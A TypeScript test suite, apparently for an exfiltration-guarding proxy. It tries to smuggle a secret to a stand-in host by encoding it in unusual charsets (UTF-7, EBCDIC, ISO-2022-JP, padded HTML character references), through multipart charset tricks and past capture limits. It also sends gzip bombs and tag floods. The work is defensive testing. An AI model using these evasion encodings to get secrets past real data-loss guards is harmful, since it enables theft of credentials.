    ['UTF-16LE form', { headers: { 'content-type': 'application/x-www-form-urlencoded; charset=utf-16le' }, body: Buffer.from(`note=${pct(Buffer.from('plain words', 'utf16le'))}`) }],
    ['multipart part in ISO-2022-JP', { headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: mp('Content-Type: text/plain; charset=iso-2022-jp\r\n', japanese) }],
    ['XML declaring ISO-2022-JP', { headers: { 'content-type': 'application/xml' }, body: Buffer.concat([Buffer.from('<?xml version="1.0" encoding="ISO-2022-JP"?><note>'), japanese, Buffer.from('</note>')]) }],
    ['filename* in UTF-8', { headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="f"; filename*=UTF-8''r%C3%A9sum%C3%A9.txt\r\n\r\nx\r\n--${B}--\r\n`) }],
  ] as const) {
    const r = await viaProxy(a.port, `${otherUrl}/notes`, { auth: a.auth, method: 'POST', headers: { ...p.headers }, body: p.body });
    t.equal(r.status, 200, `control: ${label} without a secret passes`);
  }
  // Two Content-Type headers: Node keeps the first, other stacks the last.
  const before = other.received.length;
  const two = parseResponses((await rawToProxy(a.port, Buffer.concat([Buffer.from(`POST ${otherUrl}/notes HTTP/1.1\r\nHost: other.example:${other.port}\r\nProxy-Authorization: ${a.auth}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Type: text/plain; charset=iso-2022-jp\r\nContent-Length: ${6 + jis(SECRET, [true]).length}\r\nConnection: close\r\n\r\nnote: `), Buffer.from(jis(SECRET, [true]), 'latin1')]), { responses: 1 })).text)[0];
  // (Since the fifteenth pass a second Content-Type header is refused before the body is read: 400.)
  t.ok(two && [400, 403].includes(two.status) && isProblem(two), `the value in ISO-2022-JP under a second Content-Type header: refused (${two?.status})`);
  t.equal(other.received.length, before, 'the second Content-Type: nothing reached the target');
  const query = await viaProxy(a.port, `${otherUrl}/notes?note=${pct(Buffer.from('plain words', 'utf16le'))}`, { auth: a.auth, headers: { 'content-type': 'text/plain; charset=utf-16le' } });
  t.equal(query.status, 200, 'control: a query in a UTF-16LE Content-Type charset without a secret passes');
  // What cannot be read so is refused: ISO-2022-JP past the capture cap, a part in UTF-7, a query under a UTF-7 Content-Type.
  const u7 = await attempt(`${otherUrl}/notes?note=${encodeURIComponent(utf7Of(SECRET))}`, { headers: { 'content-type': 'text/plain; charset=utf-7' } });
  t.equal(u7.status, 415, 'a query under a UTF-7 Content-Type: 415');
  t.notOk(u7.reached, 'a query under a UTF-7 Content-Type: nothing reached the target');
  for (const [label, p] of [
    ['ISO-2022-JP text past the capture cap', { headers: { 'content-type': 'text/plain; charset=iso-2022-jp' }, body: Buffer.from(`${'x'.repeat(1024 * 1024 + 10)}${jis(SECRET, [true])}`, 'latin1') }],
    ['XML declaring UTF-7', { headers: { 'content-type': 'application/xml' }, body: Buffer.from(`<?xml version="1.0" encoding="UTF-7"?><note>${utf7Of(SECRET)}</note>`) }],
    ['a multipart part in UTF-7', { headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: mp('Content-Type: text/plain; charset=utf-7\r\n', utf7Of(SECRET)) }],
  ] as const) {
    const r = await attempt(`${otherUrl}/notes`, { method: 'POST', headers: { ...p.headers }, body: p.body });
    t.equal(r.status, 415, `${label}: 415`);
    t.ok(r.problem, `${label}: problem+json`);
    t.notOk(r.reached, `${label}: nothing reached the target`);
  }
});

// Twenty-first pass (follow-up): a multipart field that declares no charset of its own is decoded
// by servers in the form's default one (RFC 7578 §4.6): Jetty takes a `_charset_` field's value,
// Tomcat and Spring the request's own `charset` parameter. The guard read such a part as bytes only.
const formCharsets: Record<string, { spell: (v: string, shifts: boolean[]) => Buffer; readable: boolean }> = {
  'utf-16le': { spell: (v) => Buffer.from(v, 'utf16le'), readable: true },
  'utf-16be': { spell: (v) => Buffer.from(v, 'utf16le').swap16(), readable: true },
  'utf-32le': { spell: (v) => encodeDoc(v, 'utf32le'), readable: true },
  'iso-2022-jp': { spell: (v, shifts) => Buffer.from(jis(v, shifts), 'latin1'), readable: true },
  'utf-7': { spell: (v) => Buffer.from(utf7Of(v)), readable: false },
  cp037: { spell: (v) => ebcdicOf(v), readable: false },
  IBM500: { spell: (v) => ebcdicOf(v), readable: false },
};
/** Where the form's default charset is said. */
const defaultPlaces: Record<string, (charset: string) => { type: string; before: string; after: string }> = {
  '_charset_ field first (Jetty)': (cs) => ({ type: '', before: `--${B}\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n${cs}\r\n`, after: '' }),
  '_charset_ field last': (cs) => ({ type: '', before: '', after: `--${B}\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n${cs}\r\n` }),
  // Harmless `_charset_` fields first, more than a reader keeps: the last (which a server may take) still counts.
  '_charset_ last of six': (cs) => ({ type: '', before: ['UTF-8', 'shift_jis', 'windows-1252', 'koi8-r', 'iso-8859-2'].map((l) => `--${B}\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n${l}\r\n`).join(''), after: `--${B}\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n${cs}\r\n` }),
  'top-level charset (Tomcat, Spring)': (cs) => ({ type: `; charset=${cs}`, before: '', after: '' }),
  'top-level charset repeated, the last': (cs) => ({ type: `; charset=utf-8; charset="${cs}"`, before: '', after: '' }),
};
/** The field's head: how a part says nothing of its charset. */
const partShapes: Record<string, (content: Buffer) => { head: string; content: Buffer }> = {
  'a bare field': (c) => ({ head: 'Content-Disposition: form-data; name="note"\r\n', content: c }),
  'text/plain without charset': (c) => ({ head: 'Content-Disposition: form-data; name="note"\r\nContent-Type: text/plain\r\n', content: c }),
  'base64 transfer encoding': (c) => ({ head: 'Content-Disposition: form-data; name="note"\r\nContent-Transfer-Encoding: base64\r\n', content: Buffer.from(c.toString('base64').replace(/.{76}(?=.)/g, '$&\r\n')) }),
  'behind 6 KiB of another field': (c) => ({ head: `Content-Disposition: form-data; name="pad"\r\n\r\n${pad}\r\n--${B}\r\nContent-Disposition: form-data; name="note"\r\n`, content: c }),
};
const formIn = (place: string, charset: string, shape: string, content: Buffer): { type: string; body: Buffer } => {
  const p = defaultPlaces[place]!(charset);
  const s = partShapes[shape]!(content);
  return {
    type: `multipart/form-data; boundary=${B}${p.type}`,
    body: Buffer.concat([Buffer.from(`${p.before}--${B}\r\n${s.head}\r\n`, 'latin1'), s.content, Buffer.from(`\r\n${p.after}--${B}--\r\n`, 'latin1')]),
  };
};

t.test('property: the placeholder or the value in a multipart field with no charset of its own, in the form\'s default charset (_charset_, the top-level charset)', async (t) => {
  await fc.assert(
    fc.asyncProperty(fc.record({
      secret: fc.constantFrom<'value' | 'placeholder'>('value', 'placeholder'),
      charset: fc.constantFrom(...Object.keys(formCharsets)),
      place: fc.constantFrom(...Object.keys(defaultPlaces)),
      shape: fc.constantFrom(...Object.keys(partShapes)),
      shifts: fc.array(fc.boolean(), { minLength: 1, maxLength: 4 }).filter((s) => s.some(Boolean)),
    }), async (c) => {
      const cs = formCharsets[c.charset]!;
      const f = formIn(c.place, c.charset, c.shape, cs.spell(c.secret === 'value' ? SECRET : PH, c.shifts));
      const r = await attempt(`${otherUrl}/notes`, { method: 'POST', headers: { 'content-type': f.type }, body: f.body });
      const what = `${c.secret} in ${c.shape} under ${c.place} = ${c.charset}`;
      if (r.status !== (cs.readable ? 403 : 415) || !r.problem) throw new Error(`${what}: answered ${r.status}`);
      if (r.reached) throw new Error(`${what}: the target got the request`);
    }),
    { numRuns: Math.max(24, runs), ...(seed !== undefined ? { seed } : {}) },
  );
  // Controls: the same shapes without a secret; a binary file part (servers hand files over as bytes).
  const binary = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 151 + 7) % 256));
  const file = (cs: string): Buffer => Buffer.concat([
    Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n${cs}\r\n--${B}\r\nContent-Disposition: form-data; name="upload"; filename="blob.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`), binary, Buffer.from(`\r\n--${B}--\r\n`),
  ]);
  for (const [label, type, body] of [
    ['a UTF-8 form with _charset_=UTF-8', `multipart/form-data; boundary=${B}`, formIn('_charset_ field first (Jetty)', 'UTF-8', 'a bare field', Buffer.from('caf\u00e9 plain words')).body],
    ['a form under _charset_=utf-16le without a secret', `multipart/form-data; boundary=${B}`, formIn('_charset_ field last', 'utf-16le', 'text/plain without charset', Buffer.from('plain words', 'utf16le')).body],
    ['a form under charset=iso-2022-jp without a secret', `multipart/form-data; boundary=${B}; charset=iso-2022-jp`, formIn('_charset_ field last', 'iso-2022-jp', 'a bare field', Buffer.from('\x1b$B$3$s\x1b(B hello', 'latin1')).body],
    ['a binary file part under _charset_=utf-7', `multipart/form-data; boundary=${B}`, file('utf-7')],
    ['a binary file part under _charset_=utf-16le', `multipart/form-data; boundary=${B}`, file('utf-16le')],
  ] as const) {
    const r = await viaProxy(a.port, `${otherUrl}/notes`, { auth: a.auth, method: 'POST', headers: { 'content-type': type }, body });
    t.equal(r.status, 200, `control: ${label} passes`);
  }
  // Past the capture cap the rest streams through the byte guard, which cannot read ISO-2022-JP: refused.
  const big = (cs: string, tail: Buffer): Buffer => Buffer.concat([file(cs).subarray(0, -`\r\n--${B}--\r\n`.length), Buffer.alloc(1024 * 1024 + 10, 0x61), Buffer.from(`\r\n--${B}\r\nContent-Disposition: form-data; name="note"\r\n\r\n`), tail, Buffer.from(`\r\n--${B}--\r\n`)]);
  const cut = await attempt(`${otherUrl}/notes`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: big('iso-2022-jp', Buffer.from(jis(SECRET, [true]), 'latin1')) });
  t.ok([403, 415].includes(cut.status) && cut.problem, `the value in ISO-2022-JP past the capture cap under _charset_=iso-2022-jp: refused (${cut.status})`);
  t.notOk(cut.reached, 'past the capture cap: nothing reached the target');
  // The `_charset_` field after a file past the capture cap names the charset of a field before it.
  const lateBody = Buffer.concat([Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="note"\r\n\r\n`), ebcdicOf(SECRET), Buffer.from(`\r\n--${B}\r\nContent-Disposition: form-data; name="upload"; filename="blob.bin"\r\n\r\n`), Buffer.alloc(1024 * 1024 + 10, 0x61), Buffer.from(`\r\n--${B}\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\ncp037\r\n--${B}--\r\n`)]);
  const late = await attempt(`${otherUrl}/notes`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: lateBody });
  t.ok(late.status === 415 && late.problem, `a cp037 field before a file past the cap, _charset_=cp037 after it: 415 (${late.status})`);
  t.notOk(late.reached, 'a _charset_ field after the capture cap: nothing reached the target');
  const large = await viaProxy(a.port, `${otherUrl}/notes`, { auth: a.auth, method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: big('UTF-8', Buffer.from('plain words')) });
  t.equal(large.status, 200, 'control: a UTF-8 upload past the capture cap under _charset_=UTF-8 passes');
});

t.test('property: numeric character references with five or more leading zeros (HTML reads any number) are refused, not passed unmatched', async (t) => {
  const ref = (v: string, zeros: number, hex: boolean): string => [...v].map((c) => (hex ? `&#x${'0'.repeat(zeros)}${c.charCodeAt(0).toString(16)};` : `&#${'0'.repeat(zeros)}${c.charCodeAt(0)};`)).join('');
  const places: Record<string, (s: string) => { url: string; opts: Options }> = {
    header: (s) => ({ url: `${otherUrl}/x`, opts: { headers: { 'x-note': s } } }),
    query: (s) => ({ url: `${otherUrl}/x?html=${encodeURIComponent(s)}`, opts: {} }),
    'JSON body': (s) => ({ url: `${otherUrl}/notes`, opts: { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ html: `<p>${s}</p>` }) } }),
    'HTML body behind 6 KiB': (s) => ({ url: `${otherUrl}/notes`, opts: { method: 'POST', headers: { 'content-type': 'text/html' }, body: `<p>${pad}</p><p>${s}</p>` } }),
  };
  await fc.assert(
    fc.asyncProperty(fc.constantFrom<'value' | 'placeholder'>('value', 'placeholder'), fc.integer({ min: 5, max: 40 }), fc.boolean(), fc.constantFrom(...Object.keys(places)), async (which, zeros, hex, place) => {
      const p = places[place]!(ref(which === 'value' ? SECRET : PH, zeros, hex));
      const r = await attempt(p.url, p.opts);
      const what = `${which} as ${hex ? 'hex' : 'decimal'} references with ${zeros} zeros in the ${place}`;
      if (!(r.status === 403 || r.status === 415) || !r.problem) throw new Error(`${what}: answered ${r.status}`);
      if (r.reached) throw new Error(`${what}: the target got the request`);
    }),
    { numRuns: Math.max(12, Math.ceil(runs / 3)), ...(seed !== undefined ? { seed } : {}) },
  );
  const ok = await viaProxy(a.port, `${otherUrl}/notes`, { auth: a.auth, method: 'POST', headers: { 'content-type': 'text/html' }, body: '<p>&#000065; &#x0041; &#x000041; caf&#233;</p>' });
  t.equal(ok.status, 200, 'control: references with up to four leading zeros, without a secret, pass');
});

t.test('an answer\'s compressed blobs, magics and headers are read a piece a turn, never megabytes in one (twenty-sixth pass)', async (t) => {
  // The answer of a host that got a secret is read for it inside compressed data. A base64 blob
  // that ended in the chunk was inflated and matched at once, up to 16 MiB each, past the answer's
  // inflation ratio: a JSON answer of 22 KB base64 gzip bombs held the event loop ~0.5 s a blob.
  // Every header value (and every join of them) had 16 MiB too (a 4 KB header ~0.17 s); a WebSocket
  // message as well. And every gzip magic after a refusal was still remembered, each walking all
  // before it: a 64 KB chunk of magics held the loop ~0.3 s. Measured in the thread's CPU time.
  const { token } = await a.airlock.agents.add('answers');
  const auth = `Basic ${Buffer.from(`answers:${token}`).toString('base64')}`;
  const url = `http://allowed.example:${allowed.port}/answer`;
  const fetchAnswer = async (headers: Array<[string, string]>, body: Buffer | string): Promise<{ status: number; problem: boolean; body: string; stallMs: number }> => {
    answer = { headers, body };
    const stalls = watchLoopStalls();
    // An answer refused after its head went out is cut (status 0): the agent gets no more of it.
    const r = await viaProxy(a.port, url, { auth }).catch(() => ({ status: 0, headers: {}, body: '' }));
    return { status: r.status, problem: r.status > 0 && isProblem(r), body: r.body, stallMs: stalls.stop().cpuMs };
  };
  const b64gz = (text: Buffer | string): string => zlib.gzipSync(text, { level: 9 }).toString('base64');
  const MiB = 1024 * 1024;
  const blobs = new Map<number, string>();
  const bomb = (n: number): string => blobs.get(n) ?? (blobs.set(n, b64gz(Buffer.alloc(n, 0x61))), blobs.get(n)!);
  const keyedBlobs = new Map<number, string>();
  const keyed = (n: number): string => keyedBlobs.get(n) ?? (keyedBlobs.set(n, b64gz(Buffer.concat([Buffer.alloc(n, 0x61), Buffer.from(SECRET)]))), keyedBlobs.get(n)!);
  const BOUND = 150;

  const many = await fetchAnswer([['content-type', 'application/json']], JSON.stringify([bomb(16 * MiB), bomb(16 * MiB), bomb(16 * MiB)]));
  t.ok(many.status === 502 && many.problem, `base64 gzip bombs in a JSON answer: refused as a bomb (${many.status})`);
  t.ok(many.stallMs < BOUND, `and the event loop was held at most ${Math.round(many.stallMs)} ms of CPU at once (~0.5 s a blob before)`);
  const magics = await fetchAnswer([['content-type', 'application/octet-stream']], Buffer.from('\x1f\x8b\x08\x00'.repeat(16 * 1024), 'latin1'));
  t.ok(magics.status === 502 && magics.problem, `64 KB of gzip magics: refused (${magics.status})`);
  t.ok(magics.stallMs < BOUND, `the event loop held at most ${Math.round(magics.stallMs)} ms (~0.3 s before)`);
  const heads = await fetchAnswer([['content-type', 'text/plain'], ...Array.from({ length: 2 }, (): [string, string] => ['x-session', bomb(4 * MiB)])], 'ok');
  t.ok(heads.status === 502 && heads.problem, `two headers of base64 gzip of 4 MiB each (4 KB): refused (${heads.status})`);
  t.ok(heads.stallMs < BOUND, `the event loop held at most ${Math.round(heads.stallMs)} ms (~0.5 s before)`);
  // A WebSocket message (read whole, at once): a 16 KB bomb is no longer 16 MiB of one turn.
  let refused: unknown;
  try { packedTexts(Buffer.from(bomb(16 * MiB))); } catch (err) { refused = err; }
  t.ok(refused instanceof UnscrubbableEncodingError, 'a WebSocket message of a 16 MiB bomb in 22 KB is refused (read past its ratio)');

  // Controls: small blobs are read at once and pass; a large one is read as a stream and still
  // refused when it holds the key; a session cookie of base64 zlib passes.
  const doc = JSON.stringify({ rows: Array.from({ length: 200 }, (_, i) => ({ id: i, name: `row ${i}` })) });
  const small = await fetchAnswer([['content-type', 'application/json'], ['x-session', zlib.deflateSync(doc).toString('base64url')]], JSON.stringify({ data: [b64gz(doc), b64gz(doc)] }));
  t.equal(small.status, 200, 'control: an answer of small base64 gzip documents (and a zlib session header) passes');
  const lines = Array.from({ length: 60_000 }, (_, i) => `line ${i} of the export\n`).join('');
  const large = await fetchAnswer([['content-type', 'application/json']], JSON.stringify({ export: b64gz(lines + SECRET) }));
  t.ok((large.status === 502 || large.status === 0) && !large.body.includes(SECRET), `a 1.4 MiB base64 gzip export holding the key at its end: refused or cut, read as a stream (${large.status})`);
  t.same(packedTexts(Buffer.from(b64gz(doc))), [doc], 'control: a small message\'s blob is read');

  // Property: blobs of any size among several, in the body or a header, the key in one or none.
  await fc.assert(fc.asyncProperty(
    fc.array(fc.constantFrom(16 * 1024, 4 * MiB, 16 * MiB), { minLength: 1, maxLength: 3 }), fc.constantFrom('body', 'header'), fc.option(fc.nat(2), { nil: undefined }),
    async (sizes, place, keyIn) => {
      // A header's blob of 4 MiB at most: a larger one is past the head's size limit (refused before it is read).
      if (place === 'header') sizes = sizes.map((n) => Math.min(n, 4 * MiB));
      const texts = sizes.map((n, i) => (i === keyIn ? keyed(n) : bomb(n)));
      const r = place === 'body' ? await fetchAnswer([['content-type', 'application/json']], JSON.stringify(texts)) : await fetchAnswer([['content-type', 'text/plain'], ...texts.map((x): [string, string] => ['x-blob', x])], 'ok');
      const what = `${sizes.join('+')} in the ${place}, key in ${keyIn ?? 'none'}`;
      if (r.stallMs >= BOUND) throw new Error(`${what}: the event loop held ${Math.round(r.stallMs)} ms`);
      if (keyIn !== undefined && keyIn < sizes.length && r.status !== 502 && r.status !== 0) throw new Error(`${what}: the key passed (${r.status})`);
      if (r.body.includes(SECRET)) throw new Error(`${what}: the key in the answer`);
      if (sizes.every((n) => n <= 16 * 1024) && (keyIn === undefined || keyIn >= sizes.length) && r.status !== 200) throw new Error(`${what}: a small blob refused (${r.status})`);
    }),
  { numRuns: 15, ...(seed !== undefined ? { seed } : {}) });
  t.pass('property: no blob held the event loop, no key passed, small blobs were read');
});

t.test('an answer\'s runs of markup after a word, and an event stream\'s comments after an event, are read in linear time (twenty-eighth pass)', async (t) => {
  // The answer of a host that got a secret is read through fillers (tags, `<wbr>`, soft hyphens):
  // each tag walked the whole run of tags abutting it (proxy/reading-view.ts readingWindows), so
  // `<p>items` and 64 KiB of `<b></b>` held the event loop 2.7 s in one scan, 128 KiB 14 s. And an
  // event whose data ends in a character a key may start with (`s`) had every comment after it
  // (keep-alives) held and read again with each chunk until the next data: a MiB of `: keepalive`
  // ~3.4 s of CPU, 0.8 s at once. Measured in the thread's CPU time.
  const { token } = await a.airlock.agents.add('markup');
  const auth = `Basic ${Buffer.from(`markup:${token}`).toString('base64')}`;
  const url = `http://allowed.example:${allowed.port}/answer`;
  const clock = ownThreadClock();
  const fetchAnswer = async (headers: Array<[string, string]>, body: string, drip?: number): Promise<{ status: number; body: string; stallMs: number; cpuMs: number }> => {
    answer = { headers, body, drip };
    const c0 = clock?.cpuMs() ?? 0;
    const stalls = watchLoopStalls();
    const r = await viaProxy(a.port, url, { auth }).catch(() => ({ status: 0, headers: {}, body: '' }));
    return { status: r.status, body: r.body, stallMs: stalls.stop().cpuMs, cpuMs: (clock?.cpuMs() ?? 0) - c0 };
  };
  const BOUND = 400;
  await fc.assert(fc.asyncProperty(
    fc.constantFrom('<b></b>', '<wbr>', '<i></i>', '<span></span>', '<br>'), fc.constantFrom('items', 'news', 'is', 'Status:'), fc.integer({ min: 40, max: 52 }),
    async (tag, word, kib) => {
      const body = `<p>${word}${tag.repeat(Math.ceil((kib * 1024) / tag.length))}</p>`;
      const r = await fetchAnswer([['content-type', 'text/html']], body);
      if (r.stallMs >= BOUND) throw new Error(`${word} and ${kib} KiB of ${tag}: the event loop held ${Math.round(r.stallMs)} ms`);
      if (r.status !== 200 || r.body !== body) throw new Error(`${word} and ${kib} KiB of ${tag}: not passed whole (${r.status})`);
    }),
  { numRuns: 3, ...(seed !== undefined ? { seed } : {}) });
  t.pass('property: a run of tags after a word is read in linear time and passes whole');
  const between = `<p>${[...SECRET].join('<b></b>')}</p>`;
  const spelled = await fetchAnswer([['content-type', 'text/html']], between);
  t.ok(!spelled.body.includes(between) && !spelled.body.includes([...SECRET.slice(8)].join('<b></b>')), `control: the key spelled between tags is still scrubbed (${spelled.status})`);

  const comments = `data: this is\n\n${': keepalive\n'.repeat(88 * 1024)}data: done\n\n`;
  const sse = await fetchAnswer([['content-type', 'text/event-stream']], comments);
  t.equal(sse.status, 200, 'an event stream of 1 MiB of keep-alive comments after an event ending in `s` passes');
  t.equal(sse.body, comments, 'whole');
  t.ok(sse.stallMs < BOUND && sse.cpuMs < 1500, `and was read in ${Math.round(sse.cpuMs)} ms of CPU, at most ${Math.round(sse.stallMs)} ms at once (~3.4 s, 0.8 s at once before)`);
  // A key's first character and fillers after it, dripped 64 bytes a write: the held tail was read
  // again with each (~2 s of CPU for 24 KiB, ~20 s for 64 KiB); now once it grew by half. It passes whole.
  for (const filler of ['<b></b>', '\x1b[0m']) {
    const dripped = `<p>items${filler.repeat(Math.ceil(24 * 1024 / filler.length))} and more</p>`;
    const d = await fetchAnswer([['content-type', 'text/html']], dripped, 64);
    t.ok(d.status === 200 && d.body === dripped, `24 KiB of ${JSON.stringify(filler)} after \`items\`, dripped 64 bytes a write: passed whole (${d.status})`);
    t.ok(d.cpuMs < 1000, `and read in ${Math.round(d.cpuMs)} ms of CPU (seconds before)`);
  }
  const completed = await fetchAnswer([['content-type', 'text/event-stream']], `data: ${SECRET.slice(0, 1)}\n\n${': keepalive\n'.repeat(100)}data: ${SECRET.slice(1)}\n\n`);
  t.ok(completed.status === 502 || completed.status === 0 || !completed.body.includes(SECRET.slice(1)), `control: a key completed by the next event after the comments is still refused or cut (${completed.status})`);
});
